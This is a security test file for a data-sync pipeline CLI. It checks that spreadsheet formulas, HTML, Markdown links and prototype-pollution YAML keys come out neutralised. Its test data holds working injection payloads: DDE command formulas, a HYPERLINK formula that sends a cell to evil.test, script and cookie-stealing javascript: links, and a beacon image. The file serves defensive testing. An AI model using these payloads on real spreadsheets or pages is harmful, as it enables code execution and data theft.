import { expect } from 'chai';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { cli, ROOT, tempDir } from '../helpers.js';
import { parseCsv } from '../lib/report/csv.js';

/**
 * Hostile values against the files people open (audit.csv in a spreadsheet, report.md in a
 * Markdown viewer) and hostile YAML against the loaders, all through the real CLIs.
 */

/** Values a scraper or a web form can deliver, each one an attack on a spreadsheet or a Markdown viewer. */
const FORMULAS = ['=HYPERLINK("http://evil.test/?x="&A1,"Click")', "=cmd|' /C calc'!A0", '+1+1', "-2+3+cmd|' /C calc'!A0", '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
const HTML = '</td></tr></table><script>alert(1)</script>';
const LINK = '[click me](javascript:alert(document.cookie))';
const IMAGE = '![x](https://evil.test/beacon.png)';
const MIXED = '<img src=x onerror=alert(1)> | `code` *bold* _it_ ~~s~~ &lt; $x$\nsecond line';

function events(): string {
  const op = (id: string, fields: Record<string, unknown>, replaces: Record<string, unknown>, status = 'applied', error?: string) => ({
    kind: 'operation',
    action: 'update',
    system: 'local',
    id,
    fields,
    replaces,
    reason: 'sync',
    entity: id,
    result: { status, id, ...(error ? { error } : {}) },
  });
  const items: unknown[] = FORMULAS.map((f, i) => op(`r${i}`, { notes: f }, { notes: FORMULAS[(i + 1) % FORMULAS.length] }));
  items.push(op(FORMULAS[1], { [FORMULAS[4]]: 'x' }, {}));
  items.push(op('r-fail', { notes: HTML }, { notes: LINK }, 'failed', `${HTML} ${IMAGE}`));
  const person = (id: string, name: string) => ({ name, email: `${id}@example.org`, _meta: { source: 'local', id } });
  items.push({
    kind: 'duplicate_group',
    cluster: 'c1',
    matching_field: 'email',
    matching_value: LINK,
    records: [person('1', IMAGE), person('2', HTML)],
    primary_record: person('1', IMAGE),
    duplicate_records: [person('2', HTML)],
    resolution_strategy: 'most_recent',
    confidence_score: 1,
  });
  items.push({
    kind: 'conflict',
    entity: 'c2',
    field_name: MIXED,
    local_value: HTML,
    airtable_value: IMAGE,
    record_id: LINK,
    last_modified_local: null,
    last_modified_airtable: null,
    conflict_type: 'value_mismatch',
    suggested_resolution: 'keep_local',
    resolution: 'manual',
  });
  return items.map((item) => JSON.stringify(item)).join('\n') + '\n';
}

/** Runs read-jsonl → report over the hostile events with run-pipeline; the report's folder. */
async function report(options: Record<string, unknown> = {}): Promise<string> {
  const dir = tempDir('security-report-');
  fs.writeFileSync(path.join(dir, 'events.jsonl'), events());
  const file = path.join(dir, 'report.yaml');
  const reportOptions = JSON.stringify({ directory: 'reports', fail_on_alert: false, ...options });
  fs.writeFileSync(file, `rejects: rejects.jsonl\nsteps:\n  - read-jsonl: { path: events.jsonl }\n  - report: ${reportOptions}\n`);
  const result = await cli('run-pipeline', [file, '--log-level', 'warn']);
  expect(result.code, result.stderr).to.equal(0);
  return path.join(dir, 'reports', 'latest');
}

/** Characters that are markup somewhere in CommonMark or GitHub's Markdown, anywhere in a line. */
const MARKUP = new Set('\\`*_[]<>&|~$');

/**
 * A table row's cells as a Markdown viewer shows them: split at unescaped pipes, backslash
 * escapes resolved. Throws on a markup character left unescaped: the viewer would act on it.
 */
function tableCells(row: string): string[] {
  const cells: string[] = [];
  let cell = '';
  for (let i = 1; i < row.length - 1; i++) {
    const ch = row[i]!;
    if (ch === '\\' && /[!-/:-@[-`{-~]/.test(row[i + 1] ?? '')) cell += row[++i];
    else if (ch === '|') {
      cells.push(cell.trim());
      cell = '';
    } else if (MARKUP.has(ch)) throw new Error(`unescaped ${JSON.stringify(ch)} at ${i} in ${row}`);
    else cell += ch;
  }
  cells.push(cell.trim());
  return cells;
}

describe('security: spreadsheet and Markdown injection through the report', function () {
  this.timeout(60_000);

  it('writes every audit.csv cell that a spreadsheet would run with a leading apostrophe, and nothing else changed', async () => {
    const latest = await report();
    const entries = fs
      .readFileSync(path.join(latest, 'audit.jsonl'), 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    const rows = parseCsv(fs.readFileSync(path.join(latest, 'audit.csv'), 'utf8'));
    const header = rows[0]!;
    expect(rows.slice(1)).to.have.length(entries.length);
    let neutralized = 0;
    rows.slice(1).forEach((row, r) => {
      row.forEach((cell, c) => {
        const value = entries[r]![header[c]!];
        const text = value === null ? '' : String(value);
        expect(cell, `row ${r + 1} ${header[c]}`).to.not.match(/^[=+\-@\t\r]/);
        if (/^[=+\-@\t\r]/.test(text)) {
          expect(cell, `row ${r + 1} ${header[c]}`).to.equal(`'${text}`);
          neutralized++;
        } else {
          expect(cell, `row ${r + 1} ${header[c]}`).to.equal(text);
        }
      });
    });
    // Each formula is written twice (as a new and as an old value), the record id and field once.
    expect(neutralized).to.equal(2 * FORMULAS.length + 2);
  });

  it('writes the values exactly for programs with csv_escape_formulas off, and a byte-order mark when asked', async () => {
    const latest = await report({ csv_escape_formulas: false, csv_byte_order_mark: true });
    const bytes = fs.readFileSync(path.join(latest, 'audit.csv'));
    expect([...bytes.subarray(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.subarray(3).toString('utf8'));
    const notes = rows
      .slice(1)
      .filter((r) => r[5] === 'notes')
      .map((r) => r[7]);
    expect(notes).to.include.members(FORMULAS);
  });

  it('shows every value in report.md as literal text: no HTML, link, image or other markup survives in any table cell', async () => {
    const latest = await report();
    const md = fs.readFileSync(path.join(latest, 'report.md'), 'utf8');
    const rows = md.split('\n').filter((line) => line.startsWith('| ') && !line.startsWith('| ---'));
    const cells = rows.flatMap((row) => tableCells(row));
    expect(cells).to.include.members([LINK, HTML, IMAGE, MIXED.replace('\n', ' ')]);
    expect(cells.some((c) => c.includes(HTML) && c.includes(IMAGE))).to.equal(true);
    // Outside the tables too: no raw tag, link or image syntax anywhere in the file.
    expect(md).to.not.match(/(^|[^\\])<(script|img|\/td)/);
    expect(md).to.not.match(/(^|[^\\])\]\(/m);
  });
});

describe('security: hostile YAML', function () {
  this.timeout(60_000);

  it("treats __proto__, constructor and prototype in a step's options as unknown options (exit 2, file:line:col)", async () => {
    const dir = tempDir('security-yaml-');
    const file = path.join(dir, 'proto.yaml');
    fs.writeFileSync(
      file,
      [
        'steps:',
        '  - read-jsonl:',
        '      path: in.jsonl',
        '      __proto__: { path: elsewhere.jsonl }',
        '      constructor: 1',
        '      prototype: 1',
        '  - write-jsonl: { path: "-" }',
        '',
      ].join('\n'),
    );
    const result = await cli('run-pipeline', ['--check', file]);
    expect(result.code).to.equal(2);
    expect(result.stderr).to.contain(`${file}:4:7 read-jsonl.__proto__: unknown option`);
    expect(result.stderr).to.contain(`${file}:5:7 read-jsonl.constructor: unknown option`);
    expect(result.stderr).to.contain(`${file}:6:7 read-jsonl.prototype: unknown option`);
  });

  it('treats a stage named after an Object member as an unknown stage, and a __proto__ key of the configuration as an unknown key', async () => {
    const dir = tempDir('security-yaml-');
    fs.writeFileSync(path.join(dir, 'config.yaml'), 'maintenance_config:\n  __proto__:\n    batch_size: 5\n');
    const file = path.join(dir, 'p.yaml');
    fs.writeFileSync(file, 'config: config.yaml\nsteps:\n  - read-jsonl: { path: in.jsonl }\n  - constructor: {}\n');
    const result = await cli('run-pipeline', ['--check', file]);
    expect(result.code).to.equal(2);
    expect(result.stderr).to.match(/config\.yaml:2:3 maintenance_config\.__proto__: unknown key/);
    expect(result.stderr).to.contain(`${file}:4:5 steps[1]: unknown stage "constructor"`);
  });

  it('checks 40,000 unknown keys in linear time, and lists the first hundred', async () => {
    const dir = tempDir('security-yaml-');
    const write = (name: string, count: number): string => {
      const file = path.join(dir, name);
      const keys = Array.from({ length: count }, (_, i) => `      k${i}: 1`);
      fs.writeFileSync(file, ['steps:', '  - read-jsonl:', '      path: in.jsonl', ...keys, ''].join('\n'));
      return file;
    };
    const small = write('some.yaml', 10_000);
    const file = write('many.yaml', 40_000);
    // The loader's CPU time in a process of its own (the heap of the test run does not count), at
    // 10,000 and at 40,000 keys: linear is four times as long, the quadratic check was about fifteen.
    // A ratio measured in one process holds on a busy machine, where an absolute time does not.
    const script = [
      `await import(${JSON.stringify(pathToFileURL(path.join(ROOT, 'dist', 'stages', 'index.js')).href)});`,
      `const { loadPipeline } = await import(${JSON.stringify(pathToFileURL(path.join(ROOT, 'dist', 'lib', 'core', 'pipeline.js')).href)});`,
      'const measure = (file) => {',
      '  const started = process.cpuUsage();',
      '  let issues = 0;',
      '  try { loadPipeline(file); } catch (error) { issues = error.issues.length; }',
      '  const used = process.cpuUsage(started);',
      '  return { ms: (used.user + used.system) / 1e3, issues };',
      '};',
      `measure(${JSON.stringify(small)});`,
      `const small = measure(${JSON.stringify(small)});`,
      `const large = measure(${JSON.stringify(file)});`,
      'process.stdout.write(JSON.stringify({ small, large }));',
    ].join('\n');
    const measured = spawnSync(process.execPath, ['--input-type=module', '-e', script], { encoding: 'utf8', timeout: 60_000 });
    expect(measured.status, measured.stderr).to.equal(0);
    const { small: at10k, large: at40k } = JSON.parse(measured.stdout) as Record<'small' | 'large', { ms: number; issues: number }>;
    expect(at10k.issues).to.equal(10_000);
    expect(at40k.issues).to.equal(40_000);
    expect(at40k.ms / at10k.ms, `${at10k.ms} ms at 10,000 keys, ${at40k.ms} ms at 40,000`).to.be.below(7);
    const result = await cli('run-pipeline', ['--check', file]);
    expect(result.code).to.equal(2);
    const lines = result.stderr.trim().split('\n');
    expect(lines[0]).to.equal(
      `${file}:4:7 read-jsonl.k0: unknown option; read-jsonl takes path, max_line_bytes, keep_inexact_numbers_as_text, reject_invalid_utf8, on_error`,
    );
    expect(lines.slice(-2)).to.deep.equal(['… and 39900 more problem(s).', '40000 configuration problem(s); nothing was run.']);
  });

  it('still refuses a key given twice, found now in one pass, and says where', async () => {
    const dir = tempDir('security-yaml-');
    const file = path.join(dir, 'twice.yaml');
    fs.writeFileSync(file, 'steps:\n  - read-jsonl:\n      path: a.jsonl\n      path: b.jsonl\n');
    const result = await cli('run-pipeline', ['--check', file]);
    expect(result.code).to.equal(2);
    expect(result.stderr).to.contain(`${file}:4:7 YAML syntax: Map keys must be unique`);
  });

  it('refuses a pipeline, configuration or field-mapping file over the size limit before parsing it', async () => {
    const dir = tempDir('security-yaml-');
    const padding = `# ${'x'.repeat(1000)}\n`.repeat(1100);
    const big = path.join(dir, 'big.yaml');
    fs.writeFileSync(big, `${padding}steps:\n  - read-jsonl: { path: in.jsonl }\n`);
    let result = await cli('run-pipeline', ['--check', big]);
    expect(result.code).to.equal(2);
    expect(result.stderr).to.match(
      /big\.yaml:1:1 the file is 1,1\d\d,\d\d\d bytes, over the limit of 1024 KiB for a pipeline, configuration or field-mapping file, so it was not read/,
    );

    fs.writeFileSync(path.join(dir, 'config.yaml'), `${padding}maintenance_config: {}\n`);
    fs.writeFileSync(path.join(dir, 'mapping.yaml'), padding + fs.readFileSync(path.join(ROOT, 'config', 'field-mapping.yaml'), 'utf8'));
    const file = path.join(dir, 'p.yaml');
    fs.writeFileSync(file, 'config: config.yaml\nsteps:\n  - read-jsonl: { path: in.jsonl }\n  - diff: { field_mapping: mapping.yaml }\n');
    result = await cli('run-pipeline', ['--check', file]);
    expect(result.code).to.equal(2);
    expect(result.stderr).to.match(/config\.yaml:1:1 the file is .* over the limit/);
    expect(result.stderr).to.match(/mapping\.yaml:1:1 the file is .* over the limit/);
  });
});

describe('run-pipeline --check and the field mapping', () => {
  it('fails --check (exit 2, file:line:col) on a broken field-mapping file that the run would fail on', async () => {
    const dir = tempDir('security-mapping-');
    const mapping = fs.readFileSync(path.join(ROOT, 'config', 'field-mapping.yaml'), 'utf8').replace('database_to_airtable:', 'database_to_airtabel:');
    fs.writeFileSync(path.join(dir, 'mapping.yaml'), mapping);
    const line = mapping.split('\n').findIndex((l) => l.includes('database_to_airtabel:')) + 1;
    const file = path.join(dir, 'p.yaml');
    fs.writeFileSync(file, 'steps:\n  - read-jsonl: { path: in.jsonl }\n  - diff: { field_mapping: mapping.yaml }\n  - write-jsonl: { path: "-" }\n');
    const result = await cli('run-pipeline', ['--check', file]);
    expect(result.code).to.equal(2);
    expect(result.stderr).to.contain(
      `${path.join(dir, 'mapping.yaml')}:${line}:3 field_mapping.database_to_airtabel: Unknown key 'database_to_airtabel'. Did you mean 'database_to_airtable'?`,
    );
    const good = await cli('run-pipeline', ['--check', 'spec/fixtures/pipelines/good.yaml'], { env: { SPEC_OUT: '/dev/null' } });
    expect(good.code, good.stderr).to.equal(0);
  });
});
